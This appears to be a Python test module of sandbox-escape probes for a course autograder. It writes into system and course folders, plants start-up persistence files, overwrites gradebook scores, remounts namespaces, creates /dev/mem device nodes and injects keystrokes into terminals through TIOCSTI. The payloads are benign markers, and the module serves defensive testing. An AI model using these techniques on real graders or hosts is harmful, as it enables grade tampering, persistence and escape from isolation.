"""Writing into what others use: the course, the gradebook, start-up files, devices."""

import site
import sys
import tempfile
from pathlib import Path

from helpers.grading_course import ROOT

from .kit import LEFT, WON, attack


def targets(course: Path) -> list[Path]:
    """Where something might be left behind, on the instructor's machine."""
    packages = Path(site.getsitepackages()[0])
    folders = [
        course,
        *(course / each for each in ("solutions", "exercises", "submitted", "judged")),
        *(ROOT / each for each in ("", "minigrad", "autograder", "solutions", "tests")),
        *(Path(each) for each in ("/tmp", "/var/tmp", "/dev/shm", "/etc", "/usr/lib")),
        *(Path(tempfile.gettempdir()), Path.home(), Path.home() / ".ipython"),
        *(packages, Path(sys.prefix), Path("/course"), Path("/home/student")),
    ]
    return [folder / f"{LEFT}{end}" for folder in folders for end in ("", ".pth")]


@attack
def writes_into_every_folder(work):
    work.cell(f"""
for path in {[str(each) for each in targets(work.course)]!r}:
    try:
        open(path, "w").write("import os")
        if not path.startswith(("/tmp", "/home", "/dev/shm")):
            print({WON!r}, path)
    except OSError:
        pass
""")


@attack
def writes_over_the_course(work):
    work.cell(f"""
import glob, os
for path in glob.glob("/course/**/*.py*", recursive=True):
    for act in (lambda: open(path, "a"), lambda: os.remove(path),
                lambda: os.chmod(path, 0o777), lambda: os.utime(path),
                lambda: os.rename(path, path + "x"), lambda: os.link(path, "copy")):
        try:
            act()
            print({WON!r}, path)
        except OSError:
            pass
""")


@attack
def writes_start_up_files(work):
    files = (
        "sitecustomize.py",
        "usercustomize.py",
        ".pythonstartup",
        ".bashrc",
        ".profile",
        ".config/matplotlib/matplotlibrc",
        ".ipython/profile_default/ipython_config.py",
        ".ipython/profile_default/startup/00.py",
        ".local/lib/python3.11/site-packages/sitecustomize.py",
        ".local/lib/python3.12/site-packages/evil.pth",
        ".numpy-site.cfg",
    )
    work.cell(f"""
import os, pathlib
for name in {files!r}:
    path = pathlib.Path.home() / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("import builtins; builtins.open('/tmp/{LEFT}', 'w')")
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(pathlib.Path.home())
""")


@attack
def writes_into_the_gradebook(work):
    work.cell(f"""
import sqlite3
for path in ({str(work.course / "gradebook.db")!r}, "/course/gradebook.db"):
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 4")
            print({WON!r})
    except sqlite3.Error:
        pass
""")


@attack
def mounts_and_unmounts(work):
    """Rights that a user gets in a namespace of their own."""
    work.cell(f"""
import ctypes
libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x20000, 0x10000000 | 0x20000):
    libc.unshare(flags)
for folder in (b"/proc", b"/course", b"/usr"):
    libc.umount2(folder, 2)
    libc.mount(b"none", folder, None, 32 | 4096, None)
if not libc.mount(b"tmpfs", b"/home/student", b"tmpfs", 0, b"size=10g"):
    print({WON!r}, "memory without a limit")
if not libc.mount(b"proc", b"/proc", b"proc", 0, None):
    print({WON!r}, "processes")
try:
    open("/course/{LEFT}", "w")
    print({WON!r})
except OSError:
    pass
""")


@attack
def makes_devices(work):
    work.cell(f"""
import os, stat
for name, kind, number in (("disk", stat.S_IFBLK, (8, 0)),
                           ("mem", stat.S_IFCHR, (1, 1))):
    try:
        os.mknod(name, kind | 0o666, os.makedev(*number))
        open(name, "rb").read(1)
        print({WON!r}, name)
    except OSError:
        pass
for path in ("/dev/kmsg", "/dev/mem", "/dev/sda", "/dev/fuse", "/dev/kvm"):
    if os.path.exists(path):
        print({WON!r}, path)
""")


@attack
def types_into_the_terminal(work):
    """Characters pushed into the terminal of whoever grades would run there."""
    work.cell(f"""
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for letter in "touch /tmp/{LEFT}\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        print({WON!r})
    except OSError:
        pass
""")
